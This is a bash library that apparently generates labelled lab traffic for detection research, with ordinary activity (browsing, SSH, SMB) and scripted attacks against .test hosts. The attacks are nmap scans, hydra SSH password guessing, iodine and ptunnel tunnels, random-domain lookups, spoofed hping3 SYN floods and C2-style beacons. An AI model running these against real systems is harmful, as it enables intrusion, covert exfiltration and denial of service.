# shellcheck shell=bash
# What people and attackers do in the lab. Sourced by `record`. Every pause is drawn from $RANDOM, seeded by `record`.

pause() { sleep "$(awk -v a="$1" -v b="$2" -v r=$RANDOM 'BEGIN{printf "%.2f", a + (b-a)*r/32767}')"; }
pick() { local items=("$@"); echo "${items[RANDOM % ${#items[@]}]}"; }
until_time() { (( $(date +%s) < $1 )); }
fetch() { inside "$1" curl -sk -m 10 -A "$(pick 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' 'Mozilla/5.0 (Windows NT 10.0) Chrome/126.0')" "${@:2}" >/dev/null; }

# --- ordinary work: each takes the client and the second of the epoch when it stops
browse() {
  local site page; while until_time "$2"; do
    site=$(pick https://shop.test https://news.test https://code.test http://news.test http://intranet.test)
    fetch "$1" "$site/" "$site/$((RANDOM % 12 + 1)).html" "$site/$((RANDOM % 7 + 1)).html" || true
    (( RANDOM % 5 )) || fetch "$1" -X POST -d 'name=x&text=hello' http://intranet.test/submit || true
    pause 0.6 "${3:-3}"
  done
}
resolve() {
  while until_time "$2"; do
    inside "$1" dig +time=1 +tries=1 "$(pick intranet shop news code files missing www.shop)".test "$(pick A A A AAAA MX)" >/dev/null || true
    pause 0.5 3
  done
}
log_in() { inside "$1" sshpass -p "$2" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o NumberOfPasswordPrompts=1 deploy@ssh.test "${@:3}" >/dev/null 2>&1 || true; }
administer() { # a few commands, sometimes a mistyped password, a copy
  while until_time "$2"; do
    (( RANDOM % 4 )) || log_in "$1" wrong-horse true
    log_in "$1" $PASSWORD 'uptime; ls /usr/bin | head -60; sleep 2; df'
    pause 4 12
    (( RANDOM % 3 )) || log_in "$1" $PASSWORD 'head -c 20000 /dev/urandom'
    pause 6 16
  done
}
share_files() {
  while until_time "$2"; do
    inside "$1" smbclient -N //files.test/share -c "ls; get report-$((RANDOM % 3 + 1)).doc /dev/null; put /etc/hostname note-$RANDOM.txt" >/dev/null 2>&1 || true
    pause 8 20
  done
}
monitor() { # a monitoring host: short checks of every service, as a scanner's but few
  while until_time "$2"; do
    inside "$1" ping -q -c 2 -i 0.3 $WEB >/dev/null || true
    local check; for check in "$WEB 80" "$WEB 443" "$SSH 22" "$FILES 445"; do
      # shellcheck disable=SC2086
      inside "$1" nc -z -w 1 $check || true
    done
    fetch "$1" -A monitor/1.0 http://intranet.test/ || true
    pause 5 7
  done
}
transfer() { inside web iperf3 -s -1 -p 5201 >/dev/null 2>&1 & sleep 0.3; inside "$1" iperf3 -c $WEB -p 5201 -b 400K -l 1200 -t "$2" "${@:3}" >/dev/null 2>&1 || true; }

# --- attacks
scan_ports() { inside scanner nmap -n -Pn -sS -T4 --max-rate 300 --max-retries 1 "$@" -oN /dev/null >/dev/null; }
sweep_hosts() { inside scanner nmap -n -sn -PS22,80,445 --max-rate 150 --max-retries 0 10.20.0.128/26 10.20.0.0/28 -oN /dev/null >/dev/null; }
guess_passwords() { # from words-file parallel account
  # -w 1: otherwise hydra waits half a minute after every connection that sshd closes. It writes hydra.restore where it stands.
  (cd "$work" && inside "$1" timeout 90 hydra -q -w 1 -t "$3" -l "$4" -P "$2" -I ssh://$SSH >/dev/null 2>&1) || true
}
words() { seq -f 'guess-%g' "$1" >"$work/words-$1"; echo "$work/words-$1"; } # number of wrong passwords
# Tunnels and their servers end by themselves, as other activities do.
tunnel_dns() { # from seconds
  inside c2 timeout "$2" iodined -f -c -P $PASSWORD 10.99.0.1 tunnel.test >/dev/null 2>&1 &
  sleep 1; inside "$1" timeout "$(($2 - 2))" iodine -f -r -T TXT -P $PASSWORD $C2 tunnel.test >/dev/null 2>&1 &
  wait_until inside "$1" ping -q -c 1 -W 1 10.99.0.1 && inside "$1" ping -q -i 0.8 -s 300 -c 20 -w 25 10.99.0.1 >/dev/null || true
}
tunnel_icmp() { # from seconds
  inside c2 timeout "$2" ptunnel >/dev/null 2>&1 &
  inside "$1" timeout "$2" ptunnel -p $C2 -lp 8022 -da $C2 -dp 80 >/dev/null 2>&1 &
  local _; for _ in 1 2 3 4 5; do pause 3 6; fetch "$1" -m 8 http://127.0.0.1:8022/ || true; done
}
look_for_master() { # from names: asks for domains that nobody registered, as a bot does
  local letters name _; for _ in $(seq "$2"); do
    name=; for letters in $(seq $((10 + RANDOM % 6))); do name+=$(pick a b c d e f g h i j k l m n o p q r s t u v w x y z); done
    inside "$1" dig +time=1 +tries=1 "$name.test" >/dev/null || true
    pause 0.3 1
  done
}
flood() { inside flooder hping3 -q -n -S --rand-source -p 80 -i u1000 -c "$1" $WEB >/dev/null 2>&1 || true; }
beacon() { # client until url seconds: posts a little, waits the period plus or minus a fifth
  while until_time "$2"; do
    inside "$1" curl -sk -m 5 -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0)' -d "id=7f3a&seq=$RANDOM&data=$(head -c 60 /dev/urandom | base64 -w0)" "$3" || true
    pause "$(awk -v p="$4" 'BEGIN{print p*0.8}')" "$(awk -v p="$4" 'BEGIN{print p*1.2}')"
  done
}
